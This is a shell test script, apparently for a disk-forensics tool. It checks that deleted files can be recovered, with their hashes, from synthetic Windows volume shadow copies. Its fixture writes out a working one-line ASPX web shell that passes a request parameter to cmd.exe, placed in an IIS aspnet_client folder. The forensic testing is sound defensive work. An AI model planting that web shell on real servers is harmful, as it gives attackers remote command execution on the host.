#!/bin/sh
# Volume shadow copies written by tests/tools/mkvss.py (real VSS structures,
# from the published format) into a GPT disk with NTFS, from three states:
# state 1 has a web shell in aspnet_client, state 2 adds an IIS log, and the
# live volume has the shell deleted.  A responder relies on: libvshadow's
# own vshadowinfo and exhume both see two stores with the GUIDs and times
# given; the shell, gone from the live listing, is listed (with its hash)
# in store 1; each store reads back byte-identical to its state image, and
# `files --snapshot K` lists exactly what `files` lists on that image.
. "$TOP/tests/lib/tap.sh"
cat >"$TMP/s1.spec" <<'SPEC'
disk gpt size=20M
part ntfs start=2048 size=16M label=DATA
file \inetpub\wwwroot\iisstart.htm text:<html><body>IIS Windows Server</body></html>\r\n
file \inetpub\wwwroot\aspnet_client\old.aspx text:<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>\r\n
SPEC
cp "$TMP/s1.spec" "$TMP/s2.spec"
cat >>"$TMP/s2.spec" <<'SPEC'
file \inetpub\logs\LogFiles\W3SVC1\u_ex240215.log text:#Fields: date time cs-method cs-uri-stem c-ip\r\n2024-02-15 03:12:44 GET /aspnet_client/old.aspx 203.0.113.9\r\n
SPEC
cp "$TMP/s2.spec" "$TMP/live.spec"
printf '%s\n' 'delete \inetpub\wwwroot\aspnet_client\old.aspx' >>"$TMP/live.spec"
IMG=$TMP/disk.img
mkvss_image "$TMP/s1.spec" "$TMP/s2.spec" "$TMP/live.spec" "$IMG"
ok $? "a disk with two VSS stores builds"
IMAGES="$IMG $IMG.state1.img $IMG.state2.img"
SHELL_SHA=$(printf '%s\r\n' '<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>' |
    sha256sum | cut -d' ' -f1)

if command -v vshadowinfo >/dev/null; then
	vshadowinfo -o 1048576 "$IMG" >"$TMP/vi" 2>&1
	grep -q 'Number of stores:.2$' "$TMP/vi"; ok $? "vshadowinfo: 2 stores"
	grep -A3 '^Store: 1' "$TMP/vi" | grep -q "Identifier.*: $VSS_GUID1"
	ok $? "vshadowinfo: store 1 has the GUID given"
	grep -A3 '^Store: 1' "$TMP/vi" |
	    grep -q 'Creation time.*: Jan 15, 2024 08:30:00.123456700 UTC'
	ok $? "vshadowinfo: store 1 has the time given"
	grep -A3 '^Store: 2' "$TMP/vi" | grep -q "Identifier.*: $VSS_GUID2"
	ok $? "vshadowinfo: store 2 has the GUID given"
	grep -A3 '^Store: 2' "$TMP/vi" |
	    grep -q 'Creation time.*: Feb 20, 2024 17:45:30.765432100 UTC'
	ok $? "vshadowinfo: store 2 has the time given"
else
	for i in 1 2 3 4 5; do skip "vshadowinfo not installed"; done
fi

run sources "$IMG"
[ "$RC" -eq 0 ]; ok $? "sources: exit 0"
grep -q '^      shadow copies: 2 (VSS)$' "$TMP/out"; ok $? "sources: two stores"
grep -q "{$VSS_GUID1} created $VSS_TIME1, 16777216 bytes" "$TMP/out"
ok $? "sources: store 1 with its GUID and time"
grep -q "{$VSS_GUID2} created $VSS_TIME2, 16777216 bytes" "$TMP/out"
ok $? "sources: store 2 with its GUID and time"

# listing IMAGE [--snapshot K]: the records of `files --hash`, without the
# drive letter (a store is a volume of its own, "?:").
listing() {
	run files "$@" --jsonl --hash
	sed 's/^{"path":"[A-Z?]:/{"path":"/' "$TMP/out" | sort
}
SHELL_RE='aspnet_client\\\\old.aspx",.*"sha256":"'$SHELL_SHA'"'
listing "$IMG" >"$TMP/live.list"
grep -q 'iisstart.htm' "$TMP/live.list" && ! grep -q 'old.aspx' "$TMP/live.list"
ok $? "live: iisstart.htm is listed, old.aspx is not"
grep -q 'System Volume Information\\\\{'"$VSS_GUID2"'}{3808876b' \
    "$TMP/live.list"; ok $? "live: the store files are in System Volume Information"
listing "$IMG" --snapshot 1 >"$TMP/snap1.list"
[ "$RC" -eq 0 ]; ok $? "files --snapshot 1: exit 0"
grep -q "$SHELL_RE" "$TMP/snap1.list"
ok $? "store 1 lists old.aspx with the shell's sha256"
grep -q 'iisstart.htm' "$TMP/snap1.list" && ! grep -q 'u_ex240215.log' "$TMP/snap1.list"
ok $? "store 1 has iisstart.htm but no IIS log yet"
listing "$IMG" --snapshot 2 >"$TMP/snap2.list"
grep -q "$SHELL_RE" "$TMP/snap2.list" && grep -q 'u_ex240215.log' "$TMP/snap2.list"
ok $? "store 2 lists old.aspx and the IIS log"
for k in 1 2; do
	listing "$IMG.state$k.img" >"$TMP/state$k.list"
	cmp -s "$TMP/snap$k.list" "$TMP/state$k.list"
	ok $? "files --snapshot $k lists exactly what files lists on state $k"
done

# The proof that the writer is right: each store, read through
# exh_source_open_snapshots, is the state image's volume byte for byte.
for k in 1 2; do
	dd if="$IMG.state$k.img" bs=1M skip=1 count=16 status=none >"$TMP/want"
	"$TOOLS/source-dump" -s "$k" "$IMG" >"$TMP/got" 2>"$TMP/err"
	cmp -s "$TMP/want" "$TMP/got"; ok $? "store $k byte-identical to state $k"
done
dd if="$IMG" bs=1M skip=1 count=16 status=none | cmp -s - "$TMP/got"
[ $? -ne 0 ]; ok $? "and the stores differ from the live volume"
[ "${UNCHANGED_CHECKS:-0}" -gt 0 ]; ok $? "images unchanged by every run"
done_testing
